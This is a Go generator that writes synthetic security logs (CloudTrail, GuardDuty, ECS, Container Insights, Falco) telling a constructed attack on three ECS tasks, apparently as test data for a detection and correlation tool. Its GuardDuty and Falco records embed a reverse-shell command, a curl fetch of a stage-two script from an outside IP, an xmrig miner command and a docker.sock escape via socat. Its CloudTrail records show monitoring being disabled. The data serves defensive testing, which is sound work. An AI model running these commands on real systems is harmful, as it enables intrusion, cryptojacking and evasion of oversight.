// Command gen writes the demo data set under testdata/demo: a constructed
// attack story on three ECS tasks across GuardDuty, CloudTrail, Container
// Insights, ECS events and Falco, in the formats a responder really has,
// mixed with real CloudTrail noise from the Invictus IR data set.
//
//	go run ./testdata/demo/gen -invictus ../shared/fixtures/third_party/invictus
//
// Every record is built from the AWS API references and Falco's rule
// outputs cited in testdata/demo/README.md. The output is deterministic.
package main

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"math"
	"os"
	"path/filepath"
	"time"
)

const (
	acct    = "123837392027" // the Invictus account, so the noise and the story share it
	region  = "us-east-1"
	cluster = "payments-prod"
)

var (
	clusterARN = "arn:aws:ecs:" + region + ":" + acct + ":cluster/" + cluster
	// Task A: checkout-api, reverse shell chain. Task B: batch-worker,
	// crypto mining. Task C: debug-tools from a privileged task definition.
	taskA   = taskARN("4c1f0a2e9b7d4e5f8a6b3c2d1e0f9a8b")
	taskB   = taskARN("9e8d7c6b5a4f4e3d2c1b0a9f8e7d6c5b")
	taskC   = taskARN("0b1c2d3e4f5a4b6c8d7e9f0a1b2c3d4e")
	benign1 = taskARN("5d6e7f8091a24b3c9d0e1f2a3b4c5d6e")
	benign2 = taskARN("6e7f8091a2b34c4d8e0f1a2b3c4d5e6f")
	ctrA    = "f3a9c27d81e4b5a6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0"
	ctrB    = "a7d41be29c0f4d3e8b6a5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f"
	ctrC    = "c0ffee11d2e34f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f90"
	ctrB1   = "b1e2d3c4b5a6978877665544332211000ffeeddccbbaa99887766554433221100"
	ctrB2   = "b2e2d3c4b5a6978877665544332211000ffeeddccbbaa99887766554433221100"
	tdA     = taskDef("checkout-api", 14)
	tdB     = taskDef("batch-worker", 7)
	tdC     = taskDef("debug-tools", 1)
	tdWeb   = taskDef("storefront-web", 31)
	mallory = "arn:aws:sts::" + acct + ":assumed-role/DevOpsBreakGlass/mallory"
	day     = time.Date(2023, 7, 10, 0, 0, 0, 0, time.UTC)
)

func at(hh, mm, ss int) time.Time {
	return day.Add(time.Duration(hh)*time.Hour + time.Duration(mm)*time.Minute + time.Duration(ss)*time.Second)
}
func taskARN(id string) string {
	return "arn:aws:ecs:" + region + ":" + acct + ":task/" + cluster + "/" + id
}
func taskDef(f string, r int) string {
	return fmt.Sprintf("arn:aws:ecs:%s:%s:task-definition/%s:%d", region, acct, f, r)
}
func iso(t time.Time) string   { return t.UTC().Format("2006-01-02T15:04:05Z") }
func isoMs(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000Z") }

type obj = map[string]any

func main() {
	out := flag.String("out", "testdata/demo", "output folder")
	inv := flag.String("invictus", "../shared/fixtures/third_party/invictus", "folder with the Invictus CloudTrail files")
	flag.Parse()
	must(os.MkdirAll(*out, 0o755))
	writeCloudTrail(*out, *inv)
	writeGuardDuty(*out)
	writeECS(*out)
	writeContainerInsights(*out)
	writeFalco(*out)
}

func must(err error) {
	if err != nil {
		log.Fatal(err)
	}
}

func write(path string, data []byte, gz bool) {
	must(os.MkdirAll(filepath.Dir(path), 0o755))
	if gz {
		var b bytes.Buffer
		w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		w.ModTime = day // deterministic header
		_, err := w.Write(data)
		must(err)
		must(w.Close())
		data = b.Bytes()
	}
	must(os.WriteFile(path, data, 0o644))
}

func jsonLines(recs []obj) []byte {
	var b bytes.Buffer
	for _, r := range recs {
		line, err := json.Marshal(r)
		must(err)
		b.Write(line)
		b.WriteByte('\n')
	}
	return b.Bytes()
}

// ---------- CloudTrail ----------

func identity() obj {
	return obj{
		"type": "AssumedRole", "principalId": "AROAR2KXF3EXAMPLE7MAL:mallory", "arn": mallory,
		"accountId": acct, "accessKeyId": "ASIAR2KXF3EXAMPLEMAL",
		"sessionContext": obj{
			"sessionIssuer": obj{"type": "Role", "principalId": "AROAR2KXF3EXAMPLE7MAL", "arn": "arn:aws:iam::" + acct + ":role/DevOpsBreakGlass", "accountId": acct, "userName": "DevOpsBreakGlass"},
			"attributes":    obj{"creationDate": "2023-07-10T11:58:02Z", "mfaAuthenticated": "false"},
		},
	}
}

func ct(t time.Time, id, source, name string, req, resp any) obj {
	return obj{
		"eventVersion": "1.08", "userIdentity": identity(), "eventTime": iso(t), "eventSource": source,
		"eventName": name, "awsRegion": region, "sourceIPAddress": "198.51.100.77",
		"userAgent":         "aws-cli/2.13.1 Python/3.11.4 Linux/5.15.0 exe/x86_64.ubuntu.22 prompt/off command/" + name,
		"requestParameters": req, "responseElements": resp, "requestID": "d3c1a2b4-0000-4000-8000-" + id[len(id)-12:],
		"eventID": id, "readOnly": false, "eventType": "AwsApiCall", "managementEvent": true,
		"recipientAccountId": acct, "eventCategory": "Management",
		"tlsDetails": obj{"tlsVersion": "TLSv1.2", "cipherSuite": "ECDHE-RSA-AES128-GCM-SHA256", "clientProvidedHostHeader": source[:len(source)-len(".amazonaws.com")] + "." + region + ".amazonaws.com"},
	}
}

func writeCloudTrail(out, inv string) {
	taskIDA := taskA[len(taskA)-32:]
	recs := []obj{
		ct(at(12, 1, 10), "5a1e0c3d-7b2f-4e8a-9c1d-000000000001", "ecs.amazonaws.com", "ExecuteCommand",
			obj{"cluster": cluster, "container": "checkout-api", "command": "/bin/sh", "interactive": true, "task": taskIDA},
			obj{"clusterArn": clusterARN, "containerArn": "arn:aws:ecs:" + region + ":" + acct + ":container/" + cluster + "/" + taskIDA + "/2f5b8c1e-3a4d-4e6f-8b9c-0d1e2f3a4b5c",
				"containerName": "checkout-api", "interactive": true, "taskArn": taskA,
				"session": obj{"sessionId": "ecs-execute-command-0a1b2c3d4e5f60718", "streamUrl": "wss://ssmmessages." + region + ".amazonaws.com/v1/data-channel/ecs-execute-command-0a1b2c3d4e5f60718?role=publish_subscribe", "tokenValue": "HIDDEN_DUE_TO_SECURITY_REASONS"}}),
		ct(at(12, 20, 5), "5a1e0c3d-7b2f-4e8a-9c1d-000000000002", "ecs.amazonaws.com", "UpdateClusterSettings",
			obj{"cluster": cluster, "settings": []obj{{"name": "containerInsights", "value": "disabled"}}},
			obj{"cluster": obj{"clusterArn": clusterARN, "clusterName": cluster, "status": "ACTIVE", "settings": []obj{{"name": "containerInsights", "value": "disabled"}}}}),
		ct(at(12, 22, 40), "5a1e0c3d-7b2f-4e8a-9c1d-000000000003", "ecs.amazonaws.com", "RegisterTaskDefinition",
			obj{"family": "debug-tools", "networkMode": "host", "pidMode": "host", "requiresCompatibilities": []string{"EC2"},
				"containerDefinitions": []obj{{"name": "debug", "image": "public.ecr.aws/docker/library/alpine:3.18", "essential": true, "privileged": true,
					"linuxParameters": obj{"capabilities": obj{"add": []string{"SYS_ADMIN", "SYS_PTRACE"}}}, "memory": 512}}},
			obj{"taskDefinition": obj{"taskDefinitionArn": tdC, "family": "debug-tools", "revision": 1, "networkMode": "host", "pidMode": "host", "status": "ACTIVE",
				"registeredAt": "Jul 10, 2023, 12:22:40 PM", "registeredBy": mallory}}),
		ct(at(12, 24, 12), "5a1e0c3d-7b2f-4e8a-9c1d-000000000004", "ecs.amazonaws.com", "RunTask",
			obj{"cluster": cluster, "taskDefinition": "debug-tools:1", "count": 1, "launchType": "EC2", "startedBy": "mallory"},
			obj{"tasks": []obj{{"taskArn": taskC, "clusterArn": clusterARN, "taskDefinitionArn": tdC, "lastStatus": "PENDING", "desiredStatus": "RUNNING", "launchType": "EC2"}}, "failures": []obj{}}),
		ct(at(12, 31, 30), "5a1e0c3d-7b2f-4e8a-9c1d-000000000005", "guardduty.amazonaws.com", "UpdateDetector",
			obj{"detectorId": "e2c1b5d8a9f04c3b8e7d6c5b4a392817", "features": []obj{{"name": "RUNTIME_MONITORING", "status": "DISABLED",
				"additionalConfiguration": []obj{{"name": "ECS_FARGATE_AGENT_MANAGEMENT", "status": "DISABLED"}}}}},
			nil),
		// A failed attempt first: errors are not drift.
		ct(at(12, 31, 2), "5a1e0c3d-7b2f-4e8a-9c1d-000000000006", "guardduty.amazonaws.com", "DeleteDetector",
			obj{"detectorId": "e2c1b5d8a9f04c3b8e7d6c5b4a392817"}, nil),
	}
	recs[5]["errorCode"] = "AccessDenied"
	recs[5]["errorMessage"] = "User: " + mallory + " is not authorized to perform: guardduty:DeleteDetector"
	body, err := json.Marshal(obj{"Records": recs})
	must(err)
	base := filepath.Join(out, "AWSLogs", acct, "CloudTrail", region, "2023", "07", "10")
	write(filepath.Join(base, acct+"_CloudTrail_"+region+"_20230710T1235Z_dEm0aTtAcKsToRy1.json.gz"), body, true)
	for i, part := range []string{"invictus_stratus_cloudtrail_part1.json", "invictus_stratus_cloudtrail_part2.json"} {
		data, err := os.ReadFile(filepath.Join(inv, part))
		must(err)
		write(filepath.Join(base, fmt.Sprintf("%s_CloudTrail_%s_20230710T12%d5Z_inv1ctusStratus%d.json.gz", acct, region, i*3, i+1)), data, true)
	}
	// A digest file: replay must skip it, as it is not a log.
	digest := obj{"awsAccountId": acct, "digestStartTime": "2023-07-10T11:00:00Z", "digestEndTime": "2023-07-10T12:00:00Z",
		"digestS3Bucket": "demo-trail", "digestSignatureAlgorithm": "SHA256withRSA", "logFiles": []obj{}}
	db, _ := json.Marshal(digest)
	write(filepath.Join(out, "AWSLogs", acct, "CloudTrail-Digest", region, "2023", "07", "10", acct+"_CloudTrail-Digest_"+region+"_demo_"+region+"_20230710T120000Z.json.gz"), db, true)
}

// ---------- GuardDuty ----------

func finding(id, typ string, sev float64, first, last time.Time, task, td, ctr, ctrName, image string, extra obj) obj {
	f := obj{
		"schemaVersion": "2.0", "accountId": acct, "region": region, "partition": "aws", "id": id,
		"arn":  "arn:aws:guardduty:" + region + ":" + acct + ":detector/e2c1b5d8a9f04c3b8e7d6c5b4a392817/finding/" + id,
		"type": typ, "severity": sev, "title": typ + " on an ECS task", "description": "Constructed demo finding of type " + typ + ".",
		"createdAt": isoMs(first.Add(4 * time.Minute)), "updatedAt": isoMs(last.Add(4 * time.Minute)),
		"resource": obj{
			"resourceType": "ECSCluster",
			"ecsClusterDetails": obj{
				"name": cluster, "arn": clusterARN, "status": "ACTIVE", "activeServicesCount": 4, "registeredContainerInstancesCount": 3, "runningTasksCount": 9,
				"taskDetails": obj{
					"arn": task, "definitionArn": td, "version": td[len(td)-2:], "createdAt": float64(first.Add(-2 * time.Hour).Unix()), "startedAt": float64(first.Add(-2*time.Hour + 20*time.Second).Unix()),
					"startedBy": "ecs-svc/9876543210123456789", "launchType": "EC2",
					"containers": []obj{{"containerRuntime": "docker", "id": ctr, "name": ctrName, "image": image, "imagePrefix": image}},
				},
			},
			"containerDetails": obj{"containerRuntime": "docker", "id": ctr, "name": ctrName, "image": image},
		},
		"service": obj{
			"serviceName": "guardduty", "featureName": "RuntimeMonitoring", "detectorId": "e2c1b5d8a9f04c3b8e7d6c5b4a392817",
			"archived": false, "count": 1, "eventFirstSeen": isoMs(first), "eventLastSeen": isoMs(last), "resourceRole": "TARGET",
			"additionalInfo": obj{"value": `{"agentDetails":{"agentVersion":"v1.6.0","agentId":"0f9e8d7c-6b5a-4c3d-8e2f-1a0b9c8d7e6f"}}`, "type": "default"},
		},
	}
	for k, v := range extra {
		f["service"].(obj)[k] = v
	}
	return f
}

func proc(name, path, cmdExample string, pid int) obj {
	return obj{"process": obj{"name": name, "executablePath": path, "executableSha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		"namespacePid": pid, "pwd": "/app", "pid": pid + 30000, "startTime": 1.68899055e9, "user": "root", "userId": 0, "euid": 0,
		"uuid": fmt.Sprintf("5c1a7f3e-0000-4000-8000-%012d", pid), "lineage": []obj{{"name": "sh", "executablePath": "/bin/sh", "pid": pid + 29990, "namespacePid": pid - 10, "euid": 0, "userId": 0, "startTime": 1.68899054e9}}},
		"context": obj{"commandLineExample": cmdExample}}
}

func netAction(ip string, port int, dir string) obj {
	return obj{"actionType": "NETWORK_CONNECTION", "networkConnectionAction": obj{"connectionDirection": dir, "protocol": "TCP", "blocked": false,
		"localPortDetails":  obj{"port": 43122, "portName": "Unknown"},
		"remoteIpDetails":   obj{"ipAddressV4": ip, "organization": obj{"asn": "14061", "asnOrg": "DIGITALOCEAN-ASN", "isp": "DigitalOcean", "org": "DigitalOcean"}, "country": obj{"countryName": "Netherlands"}},
		"remotePortDetails": obj{"port": port, "portName": "Unknown"}}}
}

func writeGuardDuty(out string) {
	imgA := acct + ".dkr.ecr." + region + ".amazonaws.com/checkout-api:2023.07.03"
	imgB := acct + ".dkr.ecr." + region + ".amazonaws.com/batch-worker:1.42.0"
	imgC := "public.ecr.aws/docker/library/alpine:3.18"
	recs := []obj{
		finding("a2c4e6f8b0d24f6a8c0e2a4c6e8f0a11", "Execution:Runtime/ReverseShell", 8, at(12, 3, 31), at(12, 3, 31), taskA, tdA, ctrA, "checkout-api", imgA,
			obj{"runtimeDetails": proc("sh", "/bin/sh", "sh -i >& /dev/tcp/203.0.113.45/4444 0>&1", 211)}),
		finding("a2c4e6f8b0d24f6a8c0e2a4c6e8f0a12", "Backdoor:Runtime/C&CActivity.B", 8, at(12, 9, 40), at(12, 9, 40), taskA, tdA, ctrA, "checkout-api", imgA,
			obj{"action": netAction("203.0.113.45", 443, "OUTBOUND"), "runtimeDetails": proc("curl", "/usr/bin/curl", "curl -s https://203.0.113.45/stage2.sh", 240)}),
		finding("a2c4e6f8b0d24f6a8c0e2a4c6e8f0a13", "CryptoCurrency:Runtime/BitcoinTool.B", 8, at(12, 14, 5), at(12, 26, 5), taskB, tdB, ctrB, "batch-worker", imgB,
			obj{"action": netAction("198.51.100.23", 3333, "OUTBOUND"), "runtimeDetails": proc("xmrig", "/tmp/.x/xmrig", "/tmp/.x/xmrig -o stratus+tcp://pool.example.net:3333 -u 4AdUnd...", 77), "count": 6}),
		finding("a2c4e6f8b0d24f6a8c0e2a4c6e8f0a14", "PrivilegeEscalation:Runtime/DockerSocketAccessed", 5, at(12, 28, 44), at(12, 28, 44), taskC, tdC, ctrC, "debug", imgC,
			obj{"runtimeDetails": func() obj {
				p := proc("socat", "/usr/bin/socat", "socat - UNIX-CONNECT:/var/run/docker.sock", 15)
				p["context"].(obj)["socketPath"] = "/var/run/docker.sock"
				return p
			}()}),
	}
	// A sample finding (as CreateSampleFindings makes): must never raise an incident.
	sample := finding("a2c4e6f8b0d24f6a8c0e2a4c6e8f0a15", "Execution:Runtime/ReverseShell", 8, at(11, 52, 0), at(11, 52, 0), benign1, tdWeb, "0000000000000000000000000000000000000000000000000000000000000000", "GeneratedFindingContainerName", "GeneratedFindingContainerImage", nil)
	sample["service"].(obj)["additionalInfo"] = obj{"value": `{"sample":true}`, "type": "default", "sample": true}
	recs = append(recs, sample)
	write(filepath.Join(out, "AWSLogs", acct, "GuardDuty", region, "2023", "07", "10", "3f2b8c6d-1e0a-4b5c-9d8e-7f6a5b4c3d2e.jsonl.gz"), jsonLines(recs), true)
}

// ---------- ECS events (EventBridge) ----------

func taskState(t time.Time, id, task, td, group, status string, ctrs [][2]string) obj {
	containers := []obj{}
	for _, c := range ctrs {
		containers = append(containers, obj{"containerArn": "arn:aws:ecs:" + region + ":" + acct + ":container/" + cluster + "/" + task[len(task)-32:] + "/" + c[0][:8] + "-0000-4000-8000-000000000000",
			"lastStatus": status, "name": c[1], "runtimeId": c[0], "taskArn": task, "cpu": "0"})
	}
	return obj{"version": "0", "id": id, "detail-type": "ECS Task State Change", "source": "aws.ecs", "account": acct, "time": iso(t), "region": region,
		"resources": []string{task},
		"detail": obj{"clusterArn": clusterARN, "containers": containers, "createdAt": isoMs(t.Add(-20 * time.Second)), "launchType": "EC2",
			"cpu": "1024", "memory": "2048", "desiredStatus": "RUNNING", "group": group, "lastStatus": status, "taskArn": task,
			"taskDefinitionArn": td, "updatedAt": isoMs(t), "version": 2, "availabilityZone": region + "a",
			"connectivity": "CONNECTED", "startedAt": isoMs(t)}}
}

func writeECS(out string) {
	recs := []obj{
		taskState(at(9, 58, 12), "8d1f0a7e-0001-4c2b-9e3d-5a6b7c8d9e01", taskA, tdA, "service:checkout-api", "RUNNING", [][2]string{{ctrA, "checkout-api"}}),
		taskState(at(9, 58, 40), "8d1f0a7e-0002-4c2b-9e3d-5a6b7c8d9e02", taskB, tdB, "service:batch-worker", "RUNNING", [][2]string{{ctrB, "batch-worker"}}),
		taskState(at(9, 59, 3), "8d1f0a7e-0003-4c2b-9e3d-5a6b7c8d9e03", benign1, tdWeb, "service:storefront-web", "RUNNING", [][2]string{{ctrB1, "web"}}),
		taskState(at(9, 59, 5), "8d1f0a7e-0004-4c2b-9e3d-5a6b7c8d9e04", benign2, tdWeb, "service:storefront-web", "RUNNING", [][2]string{{ctrB2, "web"}}),
		taskState(at(12, 25, 1), "8d1f0a7e-0005-4c2b-9e3d-5a6b7c8d9e05", taskC, tdC, "family:debug-tools", "RUNNING", [][2]string{{ctrC, "debug"}}),
	}
	write(filepath.Join(out, "eventbridge", "ecs-task-state-change.jsonl"), jsonLines(recs), false)
}

// ---------- Container Insights (CloudWatch Logs subscription payloads) ----------

func ciTask(t time.Time, task, family, rev string, cpuPct float64) obj {
	id := task[len(task)-32:]
	reserved := 1024.0
	return obj{"Version": "0", "Type": "Task", "TaskId": id, "TaskDefinitionFamily": family, "TaskDefinitionRevision": rev,
		"ContainerInstanceId": "0d7650e6dec34c1a9200f72098071e8f", "EC2InstanceId": "i-0c470579dbcdbd2f3", "ClusterName": cluster,
		"AccountID": acct, "Region": region, "AvailabilityZone": region + "a", "KnownStatus": "RUNNING", "LaunchType": "EC2",
		"PullStartedAt": day.Add(9*time.Hour + 57*time.Minute).UnixMilli(), "PullStoppedAt": day.Add(9*time.Hour + 57*time.Minute + 3*time.Second).UnixMilli(),
		"CreatedAt": day.Add(9*time.Hour + 57*time.Minute).UnixMilli(), "StartedAt": day.Add(9*time.Hour + 58*time.Minute).UnixMilli(),
		"Timestamp": t.UnixMilli(), "CpuUtilized": math.Round(cpuPct*reserved) / 100, "CpuReserved": reserved,
		"MemoryUtilized": 412, "MemoryReserved": 2048, "StorageReadBytes": 0, "StorageWriteBytes": 40960,
		"NetworkRxBytes": 1532, "NetworkRxDropped": 0, "NetworkRxErrors": 0, "NetworkRxPackets": 31,
		"NetworkTxBytes": 2281, "NetworkTxDropped": 0, "NetworkTxErrors": 0, "NetworkTxPackets": 27,
		"CloudWatchMetrics": []obj{{"Namespace": "ECS/ContainerInsights", "Metrics": []obj{{"Name": "CpuUtilized", "Unit": "None"}, {"Name": "CpuReserved", "Unit": "None"}, {"Name": "MemoryUtilized", "Unit": "Megabytes"}, {"Name": "MemoryReserved", "Unit": "Megabytes"}},
			"Dimensions": [][]string{{"ClusterName"}, {"ClusterName", "TaskDefinitionFamily"}}}}}
}

// cpu is a deterministic, gently varying load around base percent.
func cpu(base float64, i int) float64 { return base + 6*math.Sin(float64(i)/7) + float64((i*37)%11)/2 }

func writeContainerInsights(out string) {
	var payloads []obj
	start := at(10, 0, 0)
	for i := 0; start.Add(time.Duration(i) * time.Minute).Before(at(12, 36, 0)); i++ {
		t := start.Add(time.Duration(i) * time.Minute)
		b := cpu(22, i)
		if !t.Before(at(12, 10, 0)) { // the miner starts
			b = 96 + float64(i%3)
		}
		events := []obj{ciTask(t, taskA, "checkout-api", "14", cpu(30, i)), ciTask(t, taskB, "batch-worker", "7", b),
			ciTask(t, benign1, "storefront-web", "31", cpu(40, i)), ciTask(t, benign2, "storefront-web", "31", cpu(38, i+5))}
		var logEvents []obj
		for j, e := range events {
			msg, _ := json.Marshal(e)
			logEvents = append(logEvents, obj{"id": fmt.Sprintf("3795%016d%04d", t.Unix(), j), "timestamp": t.UnixMilli(), "message": string(msg)})
		}
		payloads = append(payloads, obj{"messageType": "DATA_MESSAGE", "owner": acct, "logGroup": "/aws/ecs/containerinsights/" + cluster + "/performance",
			"logStream": "AgentTelemetry-0d7650e6dec34c1a9200f72098071e8f", "subscriptionFilters": []string{"ecscorr-ci"}, "logEvents": logEvents})
	}
	write(filepath.Join(out, "container-insights", "performance-subscription.jsonl.gz"), jsonLines(payloads), true)
}

// ---------- Falco (json_output lines, as http_output posts them) ----------

func falco(t time.Time, rule, prio, output string, tags []string, fields obj) obj {
	fields["evt.time"] = t.UnixNano()
	return obj{"uuid": "", "output": t.Format("15:04:05.000000000") + ": " + prio + " " + output, "priority": prio, "rule": rule,
		"time": t.Format("2006-01-02T15:04:05.000000000Z"), "source": "syscall", "hostname": "ip-10-0-12-34.ec2.internal",
		"tags": tags, "output_fields": fields}
}

func writeFalco(out string) {
	short := func(c string) string { return c[:12] }
	revShell := falco(at(12, 3, 25).Add(118403112), "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
		"Redirect stdout/stdin to network connection | gparent=node ggparent=containerd-shim gggparent=<NA> fd.sip=203.0.113.45 connection=172.17.0.5:43122->203.0.113.45:4444 lport=43122 rport=4444 fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=root user_uid=0 user_loginuid=-1 process=sh proc_exepath=/bin/busybox parent=node command=sh -i terminal=0 container_id="+short(ctrA)+" container_name=ecs-checkout-api-14-checkout-api",
		[]string{"maturity_stable", "container", "host", "network", "process", "mitre_execution", "T1059"},
		obj{"container.id": short(ctrA), "container.name": "ecs-checkout-api-14-checkout-api-c2f4a6b8", "container.image.repository": acct + ".dkr.ecr." + region + ".amazonaws.com/checkout-api", "container.image.tag": "2023.07.03",
			"evt.type": "dup2", "fd.name": "172.17.0.5:43122->203.0.113.45:4444", "fd.lport": 43122, "fd.rport": 4444, "fd.sip": "203.0.113.45", "fd.type": "ipv4",
			"proc.cmdline": "sh -i", "proc.exepath": "/bin/busybox", "proc.name": "sh", "proc.pname": "node", "proc.tty": 0, "user.name": "root", "user.uid": 0, "user.loginuid": -1})
	recs := []obj{
		// Noise: benign alerts on the web tasks (not rule inputs).
		falco(at(11, 47, 9).Add(5521), "Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program | file=/etc/shadow process=nginx container_id="+short(ctrB1),
			[]string{"maturity_stable", "container", "filesystem", "mitre_credential_access", "T1555"},
			obj{"container.id": short(ctrB1), "fd.name": "/etc/shadow", "proc.name": "nginx", "proc.cmdline": "nginx -g daemon off;", "user.name": "root"}),
		revShell,
	}
	// The miner's pool connections: with the ECS task label (EC2 launch type, label exposed via append_output).
	for i, ip := range []string{"198.51.100.23", "198.51.100.24", "192.0.2.77", "198.51.100.23"} {
		t := at(12, 12, 2+i*41)
		recs = append(recs, falco(t, "Detect outbound connections to common miner pool ports", "Critical",
			fmt.Sprintf("Outbound connection to IP/Port flagged by https://cryptoioc.ch | ip=%s port=3333 command=xmrig -o stratum+tcp://%s:3333 pid=%d user=root container_id=%s", ip, ip, 4100+i, short(ctrB)),
			[]string{"maturity_sandbox", "host", "container", "network", "mitre_impact", "T1496"},
			obj{"container.id": short(ctrB), "container.name": "ecs-batch-worker-7-batch-worker", "container.label[com.amazonaws.ecs.task-arn]": taskB, "container.label[com.amazonaws.ecs.cluster]": cluster,
				"evt.type": "connect", "fd.sip": ip, "fd.sport": 3333, "fd.rport": 3333, "fd.name": "172.17.0.6:50122->" + ip + ":3333", "proc.cmdline": "xmrig -o stratum+tcp://" + ip + ":3333", "proc.name": "xmrig", "proc.pid": 4100 + i, "user.name": "root"}))
	}
	recs = append(recs, falco(at(12, 27, 51), "Terminal shell in container", "Notice",
		"A shell was spawned in a container with an attached terminal | evt_type=execve user=root process=sh command=sh terminal=34816 container_id="+short(ctrC),
		[]string{"maturity_stable", "container", "shell", "mitre_execution", "T1059"},
		obj{"container.id": short(ctrC), "evt.type": "execve", "proc.name": "sh", "proc.cmdline": "sh", "proc.tty": 34816, "user.name": "root"}))
	write(filepath.Join(out, "falco", "falco-events.jsonl"), jsonLines(recs), false)
}
